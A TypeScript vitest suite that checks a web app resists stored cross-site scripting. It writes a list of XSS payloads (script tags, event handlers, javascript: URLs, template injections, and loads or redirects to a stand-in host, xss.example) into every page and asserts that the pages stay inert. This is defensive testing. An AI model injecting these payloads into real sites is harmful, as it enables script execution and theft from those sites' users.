// No stored script: hostile texts, written everywhere, change no page's elements or attributes and bring nothing that runs.
import { beforeAll, describe, expect, test, vi } from "vitest";
import { cleanText } from "../../schema/text.ts";
import type { Seen } from "./crawl.ts";
import { agree, readEverywhere, writeEverywhere } from "./hostile.ts";
import { decoded, markupOf } from "./markup.ts";

vi.setConfig({ testTimeout: 180_000, hookTimeout: 180_000 });

const PAYLOADS = [
  "<script>alert(1)</script>",
  '"><script src=//xss.example></script>',
  "'><img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '"><svg/onload=alert(1)//',
  '" onmouseover="alert(1)" xss="',
  "' onfocus='alert(1)' autofocus='",
  "javascript:alert(1)//",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</option></select><img src=x onerror=alert(1)>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<math><mtext><style><img src=x onerror=alert(1)>",
  '{{constructor.constructor("alert(1)")()}}',
  "$" + "{alert(1)}<%= 7*7 %>{%xss%}",
  "<template><img src=x onerror=alert(1)></template>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>x",
  '<style>@import "//xss.example";</style>',
  '<base href="//xss.example/">',
  "<form action=//xss.example><button formaction=//xss>",
  "＜script＞alert(1)＜/script＞\u2028<script>alert(1)",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<x xss=1 onclick=alert(1)>x</x>",
  "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img&#62;",
  '"><meta http-equiv=refresh content="0;url=//xss">',
  "`-alert(1)-`</script><script>alert(1)</script>",
];

/** Two by two: a name holds 120 characters. */
const pairs = PAYLOADS.flatMap((payload, at) => (at % 2 === 0 ? [[payload, PAYLOADS[at + 1] ?? ""].join(" ")] : []));

/** As the house keeps a text: no control characters, single spaces. */
const kept = (text: string): string => cleanText(text).replace(/\s+/g, " ");

async function everyPage(text: string): Promise<{ seen: Seen[]; parts: Set<string>; faults: string[] }> {
  const written = await writeEverywhere(text);
  const seen = [...(await readEverywhere(written)), ...(await agree(written))];
  const parts = new Set<string>();
  const faults: string[] = [];
  for (const { path, status, headers, body } of seen) {
    const markup = await markupOf(body);
    for (const part of markup.parts) parts.add(part);
    faults.push(...markup.faults.map((fault) => `${fault} at ${path}`));
    if (status >= 500) faults.push(`${status} at ${path}`);
    if (!/content-security-policy: default-src 'none'; script-src 'self'; style-src 'self';/.test(headers))
      faults.push(`no policy at ${path}`);
  }
  return { seen, parts, faults };
}

describe("a text that people write", () => {
  let plain: Set<string>;

  beforeAll(async () => {
    const first = await everyPage("Atelier des puits, à côté du fleuve");
    expect(first.seen.length).toBeGreaterThan(150);
    expect(first.faults).toEqual([]);
    // Once more: what the first leaves behind, such as a partnership, stands in the lists that the others will read.
    const again = await everyPage("Jardin des écoles, au bord de la mer");
    plain = new Set([...first.parts, ...again.parts]);
  });

  test.each(pairs)(
    "%j stays a text on every page",
    async (text) => {
      const { seen, parts, faults } = await everyPage(text);
      expect(faults).toEqual([]);
      expect([...parts].filter((part) => !plain.has(part))).toEqual([]);
      const shown = seen.filter(({ body }) => decoded(body).includes(kept(text))).map(({ path }) => path);
      expect(new Set(shown).size, shown.join(" ")).toBeGreaterThan(30);
    },
    120_000,
  );
});

describe("the tokenizer that judges", () => {
  test.each(PAYLOADS.filter((payload) => /<(?!!--|!\[)[a-z/]|" on|' on/i.test(kept(payload))))(
    "sees what %j would be, unescaped",
    async (payload) => {
      const quote = payload.startsWith("'") ? "'" : '"';
      const page = `<!doctype html><p title=${quote}a${kept(payload)}${quote}>b${kept(payload)}</p>`;
      const { parts, faults } = await markupOf(page);
      const foreign = [...parts].filter((part) => !["p", "p[title]"].includes(part));
      expect(faults.length + foreign.length).toBeGreaterThan(0);
    },
  );
});
